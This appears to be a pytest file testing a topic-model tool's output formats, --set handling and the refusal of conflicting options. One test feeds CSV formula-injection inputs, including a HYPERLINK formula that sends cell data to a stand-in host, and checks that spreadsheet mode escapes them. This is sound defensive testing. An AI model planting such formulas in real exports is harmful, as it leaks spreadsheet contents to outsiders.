"""What `infer` and `inspect` write, and into which format; what is said of options that are given wrongly."""

import csv
import io
import json
from pathlib import Path

import pytest

from tests.helpers.command import QUICK, Run, assert_refused, done
from tests.helpers.files import unchanged, write
from tests.helpers.models import PHI, save, small_model

FORMULA = '=HYPERLINK("http://x.example?"&A1)'
BYTE_ORDER_MARK = "\ufeff"


def cells(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text), delimiter=delimiter))


@pytest.mark.parametrize(
    ("name", "form"),
    [
        ("out.csv", "csv"),  # it was JSON lines
        ("out.TSV", "tsv"),
        ("out.jsonl", "jsonl"),
        ("out.json", "jsonl"),
        ("out", "jsonl"),
        ("out.csv.new", "jsonl"),
    ],
)
def test_name_of_the_output_decides_the_format_and_the_option_wins(
    run: Run, tmp_path: Path, model: Path, name: str, form: str
) -> None:
    write(tmp_path, {"new.txt": "moon sail\n\noven\n"})
    done(run("infer", "new.txt", "-q", "-o", name))
    assert (tmp_path / name).read_text() == done(run("infer", "new.txt", "-q", "--format", form))
    other = "jsonl" if form == "csv" else "csv"
    done(run("infer", "new.txt", "-q", "-o", name, "--format", other))
    assert (tmp_path / name).read_text() == done(run("infer", "new.txt", "-q", "--format", other))


@pytest.mark.parametrize(("form", "delimiter"), [("csv", ","), ("tsv", "\t")])
def test_wide_table_has_a_row_for_each_document_and_every_share(
    run: Run, tmp_path: Path, model: Path, form: str, delimiter: str
) -> None:
    write(tmp_path, {"new.txt": "moon sail xyzzy\n\noven\n"})
    lines = ("infer", "new.txt", "-q", "--set", "corpus.format=lines")
    narrow = [json.loads(line) for line in done(run(*lines, "--min-share", 0)).splitlines()]
    cut = ["--top", 1, "--min-share", 0.9]  # for the other tables
    header, *rows = cells(done(run(*lines, "--wide", "--format", form, *cut)), delimiter)
    assert header == ["id", "tokens", "unknown", "topic_0", "topic_1", "topic_2"]
    assert [row[:3] for row in rows] == [
        ["new.txt:1", "2", "1"],
        ["new.txt:2", "0", "0"],
        ["new.txt:3", "1", "0"],
    ]
    for row, record in zip(rows, narrow, strict=True):
        assert dict(enumerate(map(float, row[3:]))) == {
            each["topic"]: each["share"] for each in record["topics"]
        }


def test_spreadsheet_shows_formulas_as_text_and_numbers_as_numbers(run: Run, tmp_path: Path) -> None:
    terms = ("-moon", "=orbit", "rice")
    save(
        small_model(terms, PHI, vocabulary={"min_df": 1}, tokenizer={"pattern": r"[-=\w]+"}),
        tmp_path / "model",
    )
    ids = [FORMULA, "+1", "-1", "@SUM(A1)", "\tcmd", "\uff1d1", "plain", "a=b"]
    lines = [json.dumps({"n": name, "text": "-moon"}) for name in ids]
    write(tmp_path, {"new.jsonl": "\n".join(lines)})
    read = ["infer", "new.jsonl", "-q", "--set", "corpus.id_field=n", "--wide"]
    for how in (["--format", "csv"], ["-o", "out.csv"]):
        plain = done(run(*read, *how)) or (tmp_path / "out.csv").read_text(encoding="utf-8")
        shown = done(run(*read, *how, "--spreadsheet")) or (tmp_path / "out.csv").read_text(encoding="utf-8")
        assert not plain.startswith(BYTE_ORDER_MARK)
        assert shown.startswith(f"{BYTE_ORDER_MARK}id,")
        assert [row[1:] for row in cells(plain)] == [row[1:] for row in cells(shown)]
        named = [row[0] for row in cells(plain)[1:]]
        safe = [f"'{name}" for name in named[:6]]
        safe[4] = named[4]  # the tab of an id is escaped: \\x09
        assert [row[0] for row in cells(shown)[1:]] == [*safe, "plain", "a=b"]
    words = cells(done(run("infer", "new.jsonl", "-q", "--words", "--format", "csv", "--spreadsheet")))
    assert {row[3] for row in words[1:]} == {"'-moon"}
    shown = done(run("inspect", "--format", "csv", "--spreadsheet", "--top", 2))
    header, *rows = cells(shown.removeprefix(BYTE_ORDER_MARK))
    assert header[4:] == ["npmi", "rank", "term", "p"]
    assert [(row[4], row[6]) for row in rows[:2]] == [("-0.5", "'-moon"), ("-0.5", "'=orbit")]


def test_settings_of_the_command_line_hold_for_infer_and_inspect(
    run: Run, tmp_path: Path, model: Path
) -> None:
    # "set corpus.text_field", infer said, and had no --set
    write(tmp_path, {"new.jsonl": json.dumps({"body": "moon sail. oven"})})
    assert_refused(run("infer", "new.jsonl"), 3, "corpus.text_field")
    (tmp_path / "model").rename(tmp_path / "other")
    there = ["--set", "model.path=other"]
    record = json.loads(done(run("infer", "new.jsonl", "--set", "corpus.text_field=body", *there)))
    assert record["tokens"] == 3
    assert done(run("inspect", *there)) == done(run("inspect", "-m", "other"))
    assert done(run("inspect", "-m", "other", "--set", "model.path=gone"))
    parts = ["--set", "corpus.split.by=tokens", "--set", "corpus.split.size=2"]
    lines = done(run("infer", "new.jsonl", "--set", "corpus.text_field=body", *there, *parts)).splitlines()
    assert [json.loads(line)["id"] for line in lines] == ["new.jsonl:1#1", "new.jsonl:1#2"]
    assert_refused(run("inspect", "--set", "model.topcs=3"), 2, "--set model.topcs", 'did you mean "topics"?')


def test_pattern_of_files_needs_no_quotes_of_yaml(run: Run, tmp_path: Path) -> None:
    # "while scanning an alias", it said
    write(tmp_path / "texts", {"a.txt": "moon orbit moon", "b.txt": "sail boat", "c.md": "oven rice"})
    done(run("train", "texts", *QUICK, "--set", "vocabulary.min_df=1", "--set", "corpus.include=*.txt", "-q"))
    assert (tmp_path / "model/documents.txt").read_text().split() == ["a.txt", "b.txt"]


# arguments, and what is said
REFUSED = {
    "two_models": (["inspect", "-m", "model", "-m", "other"], ["-m is given 2 times", "once"]),
    "two_models_by_long_name": (["infer", "-", "--model", "model", "-m", "other"], ["-m is given 2 times"]),
    "two_configs": (["train", "-c", "a.yaml", "-c", "a.yaml"], ["-c is given 2 times"]),
    "two_outputs": (["infer", "-", "-o", "a.csv", "-o", "b.csv"], ["-o is given 2 times"]),
    "model_without_option": (["inspect", "model"], ["unexpected argument model", "by -m"]),
    "model_twice": (["inspect", "-m", "model", "other"], ["unexpected argument other", "by -m"]),
    "wide_json": (["infer", "-", "--wide"], ["--wide", "csv or tsv"]),
    "wide_json_by_name": (["infer", "-", "--wide", "-o", "a.jsonl"], ["--wide", "csv or tsv"]),
    "wide_words": (["infer", "-", "--wide", "--words", "--format", "csv"], ["--wide", "--words"]),
    "wide_markup": (["infer", "-", "--wide", "--markup"], ["--markup", "--wide"]),
    "spreadsheet_of_json": (["infer", "-", "--spreadsheet"], ["--spreadsheet", "--format csv"]),
    "spreadsheet_of_tabs": (
        ["infer", "-", "--spreadsheet", "-o", "a.tsv"],
        ["--spreadsheet", "--format csv"],
    ),
    "spreadsheet_of_text": (["inspect", "--spreadsheet"], ["--spreadsheet", "--format csv"]),
    "workbook": (["infer", "-", "-o", "a.XLSX"], ["a.XLSX", "ends in .csv", "--spreadsheet"]),
    "parquet": (["infer", "-", "-o", "a.parquet"], ["a.parquet", "CSV, TSV and JSON lines"]),
    "compressed": (["infer", "-", "-o", "a.csv.gz"], ["a.csv.gz", "not compressed", "gzip"]),
}


@pytest.mark.parametrize("case", REFUSED)
def test_options_that_do_not_fit_are_refused(run: Run, tmp_path: Path, model: Path, case: str) -> None:
    arguments, said = REFUSED[case]
    with unchanged(tmp_path):
        assert_refused(run(*arguments), 2, *said)
